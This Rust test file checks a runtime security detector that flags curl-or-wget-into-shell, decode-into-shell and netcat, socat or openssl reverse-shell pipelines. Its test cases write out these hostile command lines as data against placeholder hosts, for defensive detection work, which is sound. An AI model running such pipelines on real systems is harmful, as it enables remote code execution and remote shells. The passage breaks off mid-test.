//! Table tests of download- and decode-and-execute through pipes (`pipes.rs`): execs with the
//! pipes the kernel recorded on them, in either order, and the findings they must and must not
//! raise.

use std::{path::PathBuf, sync::Arc};

use vigil_detection::{SharedIntel, ThreatIntel};

use super::{behaviour::Decoder, *};
use crate::event::{ExecInfo, FdPipe, ProcessRef};

pub(super) fn detector() -> Detector {
    Detector::new(
        Arc::new(SharedIntel::new(ThreatIntel::empty())),
        None,
        RuleSet::builtin_shared(),
        Vec::new(),
        DetectorConfig::default(),
        Clock::with_offset(1_700_000_000_000_000_000),
    )
}

/// One exec: pid, executable, arguments, pipe on stdin, pipe on stdout, inherited pipes.
pub(super) struct X {
    pid: u32,
    exe: &'static str,
    argv: &'static [&'static str],
    stdin: Option<u64>,
    stdout: Option<u64>,
    fds: &'static [(u32, u64)],
    /// The named FIFO an operand names, as the pipeline found it (`cat f`).
    fifo: Option<u64>,
}

pub(super) const fn x(
    pid: u32,
    exe: &'static str,
    argv: &'static [&'static str],
    stdin: Option<u64>,
    stdout: Option<u64>,
) -> X {
    X {
        pid,
        exe,
        argv,
        stdin,
        stdout,
        fds: &[],
        fifo: None,
    }
}

pub(super) fn exec(x: &X) -> Event {
    let comm: String = super::basename(x.exe).chars().take(15).collect();
    Event::Exec(Box::new(ExecInfo {
        time: "2026-12-05T01:00:00Z".into(),
        process: ProcessRef {
            pid: x.pid,
            tid: x.pid,
            ppid: 100,
            comm,
            start_time_ns: u64::from(x.pid) * 1000,
            uuid: format!("uuid-{}", x.pid),
            host_namespaces: true,
            ..ProcessRef::default()
        },
        filename: x.exe.into(),
        exe: PathBuf::from(x.exe),
        argv: x.argv.iter().map(|a| (*a).to_owned()).collect(),
        argv_truncated: false,
        argv_tail: false,
        cwd: Some(PathBuf::from("/srv/app")),
        cwd_truncated: false,
        exe_inode: 1,
        exe_dev: 1,
        sha256: None,
        sha256_error: None,
        lineage: Vec::new().into(),
        fileless: false,
        exe_deleted: false,
        host_root: false,
        written_by: None,
        changed_untracked: None,
        stdin_script: None,
        script_written_by: None,
        stdio_sockets: Vec::new(),
        stdin: x.stdin.map(|_| "pipe"),
        stdin_pipe: x.stdin,
        stdout_pipe: x.stdout,
        fd_pipes: x
            .fds
            .iter()
            .map(|&(fd, pipe)| FdPipe { fd, pipe })
            .collect(),
        input_fifo: x.fifo,
        ld_preload: None,
        ld_audit: None,
        ld_audit_unread: false,
        ld_library_path: None,
        env_truncated: false,
        glibc_tunables: false,
        setuid: false,
        script_evals: Vec::new(),
        script_lines: Vec::new(),
        argv0_empty: false,
        exe_set_id: false,
    }))
}

/// Who wrote a file, as the written-files map tells it.
fn written_by(pid: u32, comm: &str) -> crate::event::Writer {
    crate::event::Writer {
        pid,
        uid: 0,
        comm: comm.into(),
        time: "2026-12-05T01:00:00Z".into(),
    }
}

/// `(ruleId, pid of the process it is about)` of the pipe findings raised by these execs, in
/// this order.
fn raised(execs: &[X]) -> Vec<(String, u32)> {
    let mut d = detector();
    let mut out = Vec::new();
    for e in execs {
        for o in d.process(&exec(e), &NoLookup) {
            let rule = o
                .finding
                .context
                .additional
                .get("ruleId")
                .cloned()
                .unwrap_or_default();
            if rule.contains("-pipe-exec") || rule == RELAY {
                let pid = o.finding.process.as_ref().map_or(0, |p| p.pid);
                out.push((rule, pid));
            }
        }
    }
    out
}

/// A name, the execs in order, and the finding expected (`ruleId`, pid of the reader).
type Case<'a> = (&'a str, &'a [X], Option<(&'a str, u32)>);

const DOWNLOAD: &str = "behaviour-download-pipe-exec";
const DECODE: &str = "behaviour-decode-pipe-exec";
const RELAY: &str = "behaviour-reverse-shell-pipe";

#[test]
fn shells_reading_downloaded_or_decoded_code_from_a_pipe() {
    let cases: &[Case<'_>] = &[
        (
            "curl URL | bash, the writer's exec first",
            &[
                x(
                    10,
                    "/usr/bin/curl",
                    &["curl", "-s", "http://h/x"],
                    None,
                    Some(1),
                ),
                x(11, "/usr/bin/bash", &["bash"], Some(1), None),
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "curl URL | bash, the reader's exec first",
            &[
                x(11, "/usr/bin/bash", &["bash"], Some(1), None),
                x(
                    10,
                    "/usr/bin/curl",
                    &["curl", "-s", "http://h/x"],
                    None,
                    Some(1),
                ),
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "wget -qO- URL | sh",
            &[
                x(
                    10,
                    "/usr/bin/wget",
                    &["wget", "-qO-", "http://h/x"],
                    None,
                    Some(2),
                ),
                x(11, "/usr/bin/dash", &["sh"], Some(2), None),
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "curl URL | sudo bash -s -- arg (sudo execs bash on the same stdin)",
            &[
                x(10, "/usr/bin/curl", &["curl", "http://h/x"], None, Some(3)),
                x(
                    11,
                    "/usr/bin/bash",
                    &["bash", "-s", "--", "arg"],
                    Some(3),
                    None,
                ),
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "curl URL | python3 -",
            &[
                x(
                    10,
                    "/usr/bin/curl",
                    &["curl", "http://h/x.py"],
                    None,
                    Some(4),
                ),
                x(11, "/usr/bin/python3.12", &["python3", "-"], Some(4), None),
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "base64 -d payload | sh",
            &[
                x(
                    10,
                    "/usr/bin/base64",
                    &["base64", "-d", "payload"],
                    None,
                    Some(5),
                ),
                x(11, "/usr/bin/dash", &["sh"], Some(5), None),
            ],
            Some((DECODE, 11)),
        ),
        (
            "echo <b64> | base64 --decode | bash (echo is a builtin: no exec)",
            &[
                x(11, "/usr/bin/bash", &["bash"], Some(7), None),
                x(
                    10,
                    "/usr/bin/base64",
                    &["base64", "--decode"],
                    Some(6),
                    Some(7),
                ),
            ],
            Some((DECODE, 11)),
        ),
        (
            "openssl enc -d | sh",
            &[
                x(
                    10,
                    "/usr/bin/openssl",
                    &["openssl", "enc", "-d", "-aes-256-cbc", "-pbkdf2", "-k", "x"],
                    None,
                    Some(8),
                ),
                x(11, "/usr/bin/dash", &["sh"], Some(8), None),
            ],
            Some((DECODE, 11)),
        ),
        (
            "xxd -r -p | sh",
            &[
                x(10, "/usr/bin/xxd", &["xxd", "-r", "-p"], Some(9), Some(10)),
                x(11, "/usr/bin/dash", &["sh"], Some(10), None),
            ],
            Some((DECODE, 11)),
        ),
        (
            "rev | sh: a program reversed line by line",
            &[
                x(10, "/usr/bin/rev", &["rev"], Some(9), Some(10)),
                x(11, "/usr/bin/dash", &["sh"], Some(10), None),
            ],
            Some((DECODE, 11)),
        ),
        (
            "tr a-z n-za-m | sh: ROT13",
            &[
                x(
                    10,
                    "/usr/bin/tr",
                    &["tr", "a-z", "n-za-m"],
                    Some(9),
                    Some(10),
                ),
                x(11, "/usr/bin/dash", &["sh"], Some(10), None),
            ],
            Some((DECODE, 11)),
        ),
        (
            "tr a-z A-Z | sh: a filter, not a decoder",
            &[
                x(10, "/usr/bin/tr", &["tr", "a-z", "A-Z"], Some(9), Some(10)),
                x(11, "/usr/bin/dash", &["sh"], Some(10), None),
            ],
            None,
        ),
        (
            "curl URL | gunzip | bash: through a filter, execs in any order",
            &[
                x(12, "/usr/bin/bash", &["bash"], Some(12), None),
                x(11, "/usr/bin/gzip", &["gunzip"], Some(11), Some(12)),
                x(
                    10,
                    "/usr/bin/curl",
                    &["curl", "http://h/x.gz"],
                    None,
                    Some(11),
                ),
            ],
            Some((DOWNLOAD, 12)),
        ),
        (
            "curl URL | base64 -d | tee log | sh: the downloader is the origin",
            &[
                x(
                    10,
                    "/usr/bin/curl",
                    &["curl", "http://h/x.b64"],
                    None,
                    Some(13),
                ),
                x(11, "/usr/bin/base64", &["base64", "-d"], Some(13), Some(14)),
                x(12, "/usr/bin/tee", &["tee", "log"], Some(14), Some(15)),
                x(13, "/usr/bin/dash", &["sh"], Some(15), None),
            ],
            Some((DOWNLOAD, 13)),
        ),
        (
            "bash <(curl -s URL): the operand names the inherited pipe",
            &[
                x(
                    10,
                    "/usr/bin/curl",
                    &["curl", "-s", "http://h/x"],
                    None,
                    Some(16),
                ),
                X {
                    fds: &[(63, 16)],
                    ..x(11, "/usr/bin/bash", &["bash", "/dev/fd/63"], None, None)
                },
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "zsh =(...) style /proc/self/fd/N, reader first",
            &[
                X {
                    fds: &[(12, 17)],
                    ..x(11, "/usr/bin/zsh", &["zsh", "/proc/self/fd/12"], None, None)
                },
                x(
                    10,
                    "/usr/bin/wget",
                    &["wget", "-O-", "http://h/x"],
                    None,
                    Some(17),
                ),
            ],
            Some((DOWNLOAD, 11)),
        ),
        (
            "busybox wget -O- URL | busybox sh (applets by argv[0])",
            &[
                x(
                    10,
                    "/bin/busybox",
                    &["wget", "-O-", "http://h/x"],
                    None,
                    Some(18),
                ),
                x(11, "/bin/busybox", &["sh"], Some(18), None),
            ],
            Some((DOWNLOAD, 11)),
        ),
        // Benign: data read from a download or a decoder, not code.
        (
            "curl URL | jq .",
            &[
                x(10, "/usr/bin/curl", &["curl", "http://h/x"], None, Some(20)),
                x(11, "/usr/bin/jq", &["jq", "."], Some(20), None),
            ],
            None,
        ),
        (
            "curl URL | sh -c 'grep x' (a command string; stdin is its data)",
            &[
                x(10, "/usr/bin/curl", &["curl", "http://h/x"], None, Some(21)),
                x(11, "/usr/bin/dash", &["sh", "-c", "grep x"], Some(21), None),
            ],
            None,
        ),
        (
            "echo hi | sh -c cat",
            &[x(11, "/usr/bin/dash", &["sh", "-c", "cat"], Some(22), None)],
            None,
        ),
        (
            "cat local.sh | bash (nothing downloaded or decoded)",
            &[
                x(10, "/usr/bin/cat", &["cat", "local.sh"], None, Some(23)),
                x(11, "/usr/bin/bash", &["bash"], Some(23), None),
            ],
            None,
        ),
        (
            "base64 file | sh (encoding, not decoding)",
            &[
                x(10, "/usr/bin/base64", &["base64", "file"], None, Some(24)),
                x(11, "/usr/bin/dash", &["sh"], Some(24), None),
            ],
            None,
        ),
        (
            "curl URL | python3 tool.py (a script; stdin is its data)",
            &[
                x(10, "/usr/bin/curl", &["curl", "http://h/x"], None, Some(25)),
                x(
                    11,
                    "/usr/bin/python3",
                    &["python3", "tool.py"],
                    Some(25),
                    None,
                ),
            ],
            None,
        ),
        (
            "bash script.sh with an inherited pipe it does not run",
            &[
                x(10, "/usr/bin/curl", &["curl", "http://h/x"], None, Some(26)),
                X {
                    fds: &[(63, 26)],
                    ..x(11, "/usr/bin/bash", &["bash", "script.sh"], None, None)
                },
            ],
            None,
        ),
        (
            "a program named curl by comm only (the executable is python)",
            &[
                x(10, "/usr/bin/python3", &["curl", "x"], None, Some(27)),
                x(11, "/usr/bin/bash", &["bash"], Some(27), None),
            ],
            None,
        ),
        // Network relays: the shell takes its commands from a remote peer.
        (
            "nc host port | sh",
            &[
                x(
                    10,
                    "/usr/bin/nc.openbsd",
                    &["nc", "10.0.0.1", "4444"],
                    None,
                    Some(28),
                ),
                x(11, "/usr/bin/dash", &["sh"], Some(28), None),
            ],
            Some((RELAY, 11)),
        ),
        (
            "mkfifo f; sh -i < f 2>&1 | nc host port > f (the FIFO is nc's output)",
            &[
                x(11, "/usr/bin/dash", &["sh", "-i"], Some(29), Some(30)),
                x(
                    10,
                    "/usr/bin/nc.traditional",
                    &["nc", "10.0.0.1", "4444"],
                    Some(30),
                    Some(29),
                ),
            ],
            Some((RELAY, 11)),
        ),
        (
            "mkfifo f; cat f | sh -i 2>&1 | nc host port > f (cat reads the FIFO its operand names)",
            &[
                X {
                    fifo: Some(41),
                    ..x(12, "/usr/bin/cat", &["cat", "f"], None, Some(40))
                },
                x(11, "/usr/bin/dash", &["sh", "-i"], Some(40), Some(42)),
                x(
                    10,
                    "/usr/bin/nc.traditional",
                    &["nc", "10.0.0.1", "4444"],
                    Some(42),
                    Some(41),
                ),
            ],
            Some((RELAY, 11)),
        ),
        (
            "the same, the shell's exec first and nc's before cat's",
            &[
                x(11, "/usr/bin/bash", &["bash", "-i"], Some(43), Some(44)),
                x(
                    10,
                    "/usr/bin/nc.openbsd",
                    &["nc", "-l", "4444"],
                    Some(44),
                    Some(45),
                ),
                X {
                    fifo: Some(45),
                    ..x(12, "/usr/bin/cat", &["cat", "/tmp/f"], None, Some(43))
                },
            ],
            Some((RELAY, 11)),
        ),
        (
            "cat f | sh, the FIFO written by a program that is no relay",
            &[
                x(
                    10,
                    "/usr/bin/python3",
                    &["python3", "gen.py"],
                    None,
                    Some(47),
                ),
                X {
                    fifo: Some(47),
                    ..x(12, "/usr/bin/cat", &["cat", "f"], None, Some(46))
                },
                x(11, "/usr/bin/dash", &["sh"], Some(46), None),
            ],
            None,
        ),
        (
            "mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect host:port > f",
            &[
                x(11, "/usr/bin/dash", &["sh", "-i"], Some(35), Some(36)),
                x(
                    10,
                    "/usr/bin/openssl",
                    &["openssl", "s_client", "-quiet", "-connect", "10.0.0.1:443"],
                    Some(36),
                    Some(35),
                ),
            ],
            Some((RELAY, 11)),
        ),
        (
            "openssl s_server | sh (a TLS server: not the client a relay entry names)",
            &[
                x(
                    10,
                    "/usr/bin/openssl",
                    &["openssl", "s_server", "-quiet", "-accept", "4433"],
                    None,
                    Some(37),
                ),
                x(11, "/usr/bin/dash", &["sh"], Some(37), None),
            ],
            None,
        ),
        (
            "echo | openssl s_client -connect host:443 (a shell pipeline into openssl)",
            &[
                x(11, "/usr/bin/dash", &["sh", "-c", "echo"], None, Some(38)),
                x(
                    10,
                    "/usr/bin/openssl",
                    &["openssl", "s_client", "-connect", "10.0.0.1:443"],
                    Some(38),
                    None,
                ),
            ],
            None,
        ),
        (
            "socat - TCP:host:port | cat | bash",
            &[
                x(
                    10,
                    "/usr/bin/socat",
                    &["socat", "-", "TCP:10.0.0.1:4444"],
                    None,
                    Some(31),
                ),
                x(12, "/usr/bin/cat", &["cat"], Some(31), Some(32)),
                x(11, "/usr/bin/bash", &["bash"], Some(32), None),
            ],
            Some((RELAY, 11)),
        ),
        (
            "sh -c 'tar c .' | nc host port (a shell's output sent, nothing read)",
            &[
                x(
                    11,
                    "/usr/bin/dash",
                    &["sh", "-c", "tar c ."],
                    None,
                    Some(33),
                ),
                x(
                    10,
                    "/usr/bin/nc.openbsd",
                    &["nc", "10.0.0.1", "4444"],
                    Some(33),
                    None,
                ),
            ],
            None,
        ),
        (
            "nc host port | sh -c 'cat > f' (a command string: stdin is its data)",
            &[
                x(10, "/usr/bin/nc", &["nc", "h", "80"], None, Some(34)),
                x(
                    11,
                    "/usr/bin/dash",
                    &["sh", "-c", "cat > f"],
                    Some(34),
                    None,
                ),
            ],
            None,
        ),
    ];
    for (name, execs, want) in cases {
        let got = raised(execs);
        let want: Vec<(String, u32)> = want
            .iter()
            .map(|(r, pid)| ((*r).to_owned(), *pid))
            .collect();
        assert_eq!(got, want, "{name}");
    }
}

#[test]
fn a_pipe_finding_names_both_ends() {
    let mut d = detector();
    d.process(
        &exec(&x(
            10,
            "/usr/bin/curl",
            &["curl", "-fsSL", "http://127.0.0.1:8080/x.sh"],
            None,
            Some(1),
        )),
        &NoLookup,
    );
    let out = d.process(
        &exec(&x(11, "/usr/bin/bash", &["bash"], Some(1), None)),
        &NoLookup,
    );
    let f = out
        .iter()
        .map(|o| &o.finding)
        .find(|f| f.context.additional.get("ruleId").map(String::as_str) == Some(DOWNLOAD))
        .expect("a download finding");
    assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousCommand");
    assert_eq!(f.severity, 8.0);
    let a = &f.context.additional;
    assert_eq!(a["pipeWriter"], "/usr/bin/curl");
    assert_eq!(a["pipeWriterPid"], "10");
    assert!(a["pipeWriterCommandLine"].contains("http://127.0.0.1:8080/x.sh"));
    assert_eq!(a["pipeChain"], "curl | bash");
    assert_eq!(a["programReadFrom"], "standard input");
    // Another reader of the same pipe later (a second line of the script) raises again only
    // as a repeat of the same finding.
    let again = d.process(
        &exec(&x(12, "/usr/bin/bash", &["bash"], Some(1), None)),
        &NoLookup,
    );
    assert!(again.iter().all(|o| !o.new), "{again:?}");
}

#[test]
fn the_pipe_table_stays_bounded_and_counts_what_it_drops() {
    let mut d = detector();
    let n = pipes::MAX_PIPES as u64 * 3;
    for ino in 0..n {
        d.process(
            &exec(&x(
                10,
                "/usr/bin/curl",
                &["curl", "x"],
                None,
                Some(1_000 + ino),
            )),
            &NoLookup,
        );
    }
    let (held, evicted) = d.pipes_tracked();
    assert!(held <= pipes::MAX_PIPES, "{held}");
    assert_eq!(held as u64 + evicted, n);
    // The newest pipes are still known.
    let found = d.process(
        &exec(&x(
            11,
            "/usr/bin/bash",
            &["bash"],
            Some(1_000 + n - 1),
            None,
        )),
        &NoLookup,
    );
    assert_eq!(found.len(), 1, "{found:?}");
}

#[test]
fn decoders_decode_only_with_their_arguments() {
    let d = |program: &str, args: &[&str], letters: &[char]| Decoder {
        program: program.into(),
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        letters: letters.to_vec(),
    };
    let argv = |a: &[&str]| a.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    let base64 = d("base64", &["-d", "--decode"], &['d']);
    assert!(base64.decodes(&argv(&["base64", "-d"])));
    assert!(base64.decodes(&argv(&["base64", "-di", "f"])));
    assert!(base64.decodes(&argv(&["base64", "--decode"])));
    assert!(!base64.decodes(&argv(&["base64", "f"])));
    assert!(!base64.decodes(&argv(&["base64", "--wrap=0"])));
    let openssl = d("openssl", &["-d"], &[]);
    assert!(openssl.decodes(&argv(&["openssl", "enc", "-d", "-aes-256-cbc"])));
    assert!(!openssl.decodes(&argv(&["openssl", "enc", "-aes-256-cbc", "-pbkdf2"])));
    assert!(d("uudecode", &[], &[]).decodes(&argv(&["uudecode"])));
}

#[test]
fn a_binary_a_downloader_wrote_is_download_and_execute() {
    let downloaded = |writer_pid: u32| {
        let mut d = detector();
        d.process(
            &exec(&x(
                20,
                "/usr/bin/curl",
                &["curl", "-o", "t", "http://h/t"],
                None,
                None,
            )),
            &NoLookup,
        );
        // Another program under another pid, then the file run.
        d.process(
            &exec(&x(21, "/usr/bin/chmod", &["chmod", "+x", "t"], None, None)),
            &NoLookup,
        );
        let Event::Exec(mut run) = exec(&x(22, "/srv/app/t", &["./t"], None, None)) else {
            unreachable!()
        };
        run.written_by = Some(written_by(writer_pid, "curl"));
        d.process(&Event::Exec(run), &NoLookup)
            .into_iter()
            .map(|o| o.finding)
            .filter(|f| {
                f.context.additional.get("ruleId").map(String::as_str)
                    == Some("behaviour-download-exec")
            })
            .collect::<Vec<_>>()
    };
    let found = downloaded(20);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].finding_type, "Execution:Runtime/SuspiciousCommand");
    assert_eq!(found[0].context.additional["downloadedBy"], "/usr/bin/curl");
    assert_eq!(found[0].context.file_path.as_deref(), Some("/srv/app/t"));
    // Written by chmod's pid (not a downloader), or by a pid never seen: nothing.
    assert!(downloaded(21).is_empty());
    assert!(downloaded(99).is_empty());

    // A `#!` script: the interpreter is the executable, the script's writer comes separately.
    let mut d = detector();
    d.process(
        &exec(&x(
            20,
            "/usr/bin/wget",
            &["wget", "http://h/r.sh"],
            None,
            None,
        )),
        &NoLookup,
    );
    let Event::Exec(mut run) = exec(&x(23, "/usr/bin/dash", &["/bin/sh", "./r.sh"], None, None))
    else {
        unreachable!()
    };
    run.filename = "./r.sh".into();
    run.script_written_by = Some(written_by(20, "wget"));
    let found: Vec<_> = d
        .process(&Event::Exec(run), &NoLookup)
        .into_iter()
        .map(|o| o.finding)
        .filter(|f| {
            f.context.additional.get("ruleId").map(String::as_str)
                == Some("behaviour-download-exec")
        })
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].context.file_path.as_deref(), Some("/srv/app/r.sh"));
    assert_eq!(found[0].context.additional["executedFile"], "script");
    assert_eq!(found[0].context.additional["downloadedBy"], "/usr/bin/wget");
}

fn connect(pid: u32, ret: i32, remote: Option<&str>) -> Event {
    Event::Connect(crate::event::NetInfo {
        time: "2026-12-05T01:00:01Z".into(),
        process: ProcessRef {
            pid,
            tid: pid,
            start_time_ns: u64::from(pid) * 1000,
            uuid: format!("uuid-{pid}"),
            host_namespaces: true,
            ..ProcessRef::default()
        },
        ret,
        error: (ret < 0).then(|| "ECONNREFUSED".to_owned()),
        family: if remote.is_some() {
            "AF_INET"
        } else {
            "AF_UNIX"
        },
        protocol: "tcp",
        remote: remote.map(|r| r.parse().expect("a socket address")),
        unix_path: remote.is_none().then(|| "/run/x.sock".to_owned()),
        fd: 3,
        repeats: 0,
        outcome: None,
    })
}

/// Rule ids of the pipe and download findings these events raise, with the pid each is about.
fn raised_by(events: &[Event]) -> Vec<(String, u32)> {
    let mut d = detector();
    let mut out = Vec::new();
    for e in events {
        for o in d.process(e, &NoLookup) {
            let rule = o
                .finding
                .context
                .additional
                .get("ruleId")
                .cloned()
                .unwrap_or_default();
            if rule.contains("-pipe-exec") || rule == "behaviour-download-exec" {
                out.push((rule, o.finding.process.as_ref().map_or(0, |p| p.pid)));
            }
        }
    }
    out
}

#[test]
fn an_inline_program_that_connects_out_is_a_downloader() {
    const PY: &[&str] = &[
        "python3",
        "-c",
        "import urllib.request as u; print(u.urlopen('http://h/x').read().decode())",
    ];
    let download = || ("behaviour-download-pipe-exec".to_owned(), 31);
    // `python3 -c '...urlopen...' | sh`: the shell exec'd first, python connected afterwards.
    let events = [
        exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
        exec(&x(30, "/usr/bin/python3.11", PY, None, Some(7))),
        connect(30, 0, Some("127.0.0.1:8000")),
    ];
    assert_eq!(raised_by(&events), [download()]);
    // The same with perl -e, ruby -e, node -e, php -r and bash -c writers.
    for argv in [
        &["perl", "-MLWP::Simple", "-e", "getprint 'http://h/x'"][..],
        &[
            "ruby",
            "-e",
            "require 'open-uri'; puts URI.open('http://h/x').read",
        ],
        &["node", "-e", "fetch('http://h/x')"],
        &["php", "-r", "echo file_get_contents('http://h/x');"],
        &["bash", "-c", "exec 3<>/dev/tcp/h/80; cat <&3"],
    ] {
        let exe: &'static str = match argv[0] {
            "perl" => "/usr/bin/perl",
            "ruby" => "/usr/bin/ruby",
            "node" => "/usr/bin/node",
            "php" => "/usr/bin/php",
            _ => "/usr/bin/bash",
        };
        let argv: &'static [&'static str] = Box::leak(argv.to_vec().into_boxed_slice());
        let events = [
            exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
            exec(&x(30, exe, argv, None, Some(7))),
            connect(30, 0, Some("10.0.0.1:80")),
        ];
        assert_eq!(raised_by(&events), [download()], "{argv:?}");
    }
    // A file it wrote, run: download-and-execute.
    let Event::Exec(mut run) = exec(&x(32, "/srv/app/t", &["./t"], None, None)) else {
        unreachable!()
    };
    run.written_by = Some(written_by(30, "python3"));
    let fetched = |connected: Event| {
        raised_by(&[
            exec(&x(30, "/usr/bin/python3.11", PY, None, None)),
            connected,
            Event::Exec(run.clone()),
        ])
    };
    assert_eq!(
        fetched(connect(30, 0, Some("127.0.0.1:8000"))),
        [("behaviour-download-exec".to_owned(), 32)]
    );
    // Benign: no connect, a refused connect, a unix socket, a module (`python3 -m pip`), a
    // script file, a reader that runs a command string.
    assert!(fetched(connect(30, -111, Some("127.0.0.1:8000"))).is_empty());
    assert!(fetched(connect(30, 0, None)).is_empty());
    assert!(fetched(connect(99, 0, Some("127.0.0.1:8000"))).is_empty());
    for argv in [
        &["python3", "-m", "pip", "install", "x"][..],
        &["python3", "-Im", "pip", "download", "x"],
        &["python3", "tool.py"],
    ] {
        let argv: &'static [&'static str] = Box::leak(argv.to_vec().into_boxed_slice());
        let events = [
            exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
            exec(&x(30, "/usr/bin/python3.11", argv, None, Some(7))),
            connect(30, 0, Some("127.0.0.1:8000")),
        ];
        assert!(raised_by(&events).is_empty(), "{argv:?}");
    }
    let events = [
        exec(&x(31, "/usr/bin/dash", &["sh", "-c", "cat"], Some(7), None)),
        exec(&x(30, "/usr/bin/python3.11", PY, None, Some(7))),
        connect(30, 0, Some("127.0.0.1:8000")),
    ];
    assert!(raised_by(&events).is_empty());
    // The pid execs something else before it connects: no longer the inline program.
    let events = [
        exec(&x(31, "/usr/bin/dash", &["sh"], Some(7), None)),
        exec(&x(30, "/usr/bin/python3.11", PY, None, Some(7))),
        exec(&x(30, "/usr/bin/true", &["true"], None, Some(7))),
        connect(30, 0, Some("127.0.0.1:8000")),
    ];
    assert!(raised_by(&events).is_empty());
}

#[test]
fn a_renamed_copy_of_a_downloader_is_known_by_its_bytes() {
    let curl = crate::exe_hash::Digest::of(b"the bytes of curl");
    let run = |sha: Option<crate::exe_hash::Digest>| {
        let mut d = detector().with_tool_hashes([(curl, "curl".to_owned())].into());
        let Event::Exec(mut fetch) = exec(&x(
            40,
            "/tmp/.cache/getter",
            &["getter", "-s", "http://h/x"],
            None,
            Some(9),
        )) else {
            unreachable!()
        };
        fetch.sha256 = sha;
        let mut out = Vec::new();
        for e in [
            exec(&x(41, "/usr/bin/bash", &["bash"], Some(9), None)),
            Event::Exec(fetch),
        ] {
            out.extend(d.process(&e, &NoLookup).into_iter().filter_map(|o| {
                o.finding
                    .context
                    .additional
                    .get("ruleId")
                    .filter(|r| r.as_str() == "behaviour-download-pipe-exec")
                    .map(|_| o.finding.context.additional["pipeWriter"].clone())
            }));
        }
        out
    };
    assert_eq!(run(Some(curl)), ["/tmp/.cache/getter"]);
    // A copy of nc relaying a connection into a shell: a reverse shell through the pipe.
    let nc = crate::exe_hash::Digest::of(b"the bytes of nc");
    let mut d = detector().with_tool_hashes([(nc, "nc".to_owned())].into());
    let Event::Exec(mut relay) = exec(&x(
        42,
        "/tmp/.cache/relay",
        &["relay", "127.0.0.1", "4444"],
        None,
        Some(11),
    )) else {
        unreachable!()
    };
    relay.sha256 = Some(nc);
    let rules: Vec<String> = [
        exec(&x(43, "/usr/bin/bash", &["bash"], Some(11), None)),
        Event::Exec(relay),
    ]
    .iter()
    .flat_map(|e| d.process(e, &NoLookup))
    .filter_map(|o| o.finding.context.additional.get("ruleId").cloned())
    .collect();
    assert!(rules.iter().any(|r| r == RELAY), "{rules:?}");
    // Other bytes, or none known: a program of its own.
    assert!(run(Some(crate::exe_hash::Digest::of(b"something else"))).is_empty());
    assert!(run(None).is_empty());
}

#[test]
fn a_script_a_decoder_wrote_then_run_is_decode_and_execute() {
    // `cat data | base64 -d > art.sh; chmod +x art.sh; ./art.sh` (Atomic Red Team's T1027 #1),
    // and the same with `base64` encoding (not a decoder) as the writer.
    let run_written_by = |writer: &'static [&'static str], writer_pid: u32| {
        let mut d = detector();
        d.process(
            &exec(&x(30, "/usr/bin/base64", writer, None, None)),
            &NoLookup,
        );
        let Event::Exec(mut run) = exec(&x(
            31,
            "/usr/bin/dash",
            &["/bin/sh", "./art.sh"],
            None,
            None,
        )) else {
            unreachable!()
        };
        run.filename = "./art.sh".into();
        run.script_written_by = Some(written_by(writer_pid, "base64"));
        d.process(&Event::Exec(run), &NoLookup)
            .into_iter()
            .map(|o| o.finding)
            .filter(|f| {
                matches!(
                    f.context.additional.get("ruleId").map(String::as_str),
                    Some("behaviour-decode-exec" | "behaviour-download-exec")
                )
            })
            .collect::<Vec<_>>()
    };
    let found = run_written_by(&["base64", "-d"], 30);
    assert_eq!(found.len(), 1, "{found:?}");
    let f = &found[0];
    assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousCommand");
    assert_eq!(f.context.additional["ruleId"], "behaviour-decode-exec");
    assert_eq!(f.context.additional["decodedBy"], "/usr/bin/base64");
    assert_eq!(f.context.additional["decoderCommandLine"], "base64 -d");
    assert_eq!(f.severity_label, vigil_crds::finding::SeverityLabel::High);
    assert_eq!(f.context.file_path.as_deref(), Some("/srv/app/art.sh"));
    // Encoding is not decoding; another writer pid is not the decoder.
    assert!(run_written_by(&["base64", "-w", "0"], 30).is_empty());
    assert!(run_written_by(&["base64", "-d"], 99).is_empty());
}

#[test]
fn a_download_captured_by_the_shell_then_run_as_a_command_string() {
    // Every exec here is a child of the same shell (ppid 100).
    let curl = x(
        20,
        "/usr/bin/curl",
        &["curl", "-s", "http://h/x.sh"],
        None,
        Some(7),
    );
    let script = x(
        21,
        "/usr/bin/bash",
        &["bash", "-c", "true\ntrue"],
        None,
        None,
    );
    let one_line = x(21, "/usr/bin/bash", &["bash", "-c", "true"], None, None);
    let severity = |execs: &[X]| {
        let mut d = detector();
        let mut out = Vec::new();
        for e in execs {
            for o in d.process(&exec(e), &NoLookup) {
                let rule = o.finding.context.additional.get("ruleId").cloned();
                if rule.as_deref() == Some("behaviour-download-pipe-exec") {
                    out.push(o.finding.severity_label);
                }
            }
        }
        out
    };
    assert_eq!(severity(&[curl, script]), vec![SeverityLabel::High]);
    let curl = x(
        20,
        "/usr/bin/curl",
        &["curl", "-s", "http://h/x.sh"],
        None,
        Some(7),
    );
    assert_eq!(severity(&[curl, one_line]), vec![SeverityLabel::Low]);
    // The shell replacing itself with the command string (`exec bash -c "$(curl URL)"`).
    let mut d = detector();
    d.process(
        &exec(&x(20, "/usr/bin/curl", &["curl", "u"], None, Some(7))),
        &NoLookup,
    );
    let mut itself = exec(&x(
        100,
        "/usr/bin/bash",
        &[
            "bash", "-c", "a
b",
        ],
        None,
        None,
    ));
    if let Event::Exec(e) = &mut itself {
        e.process.ppid = 1;
    }
    let found = d.process(&itself, &NoLookup);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].finding.severity_label, SeverityLabel::High);
    // Another child first (the value used for something else), a program reading the pipe in
    // either order (`curl URL | jq`), the inline program's own stdin: nothing.
    for execs in [
        vec![
            x(20, "/usr/bin/curl", &["curl", "-s", "u"], None, Some(7)),
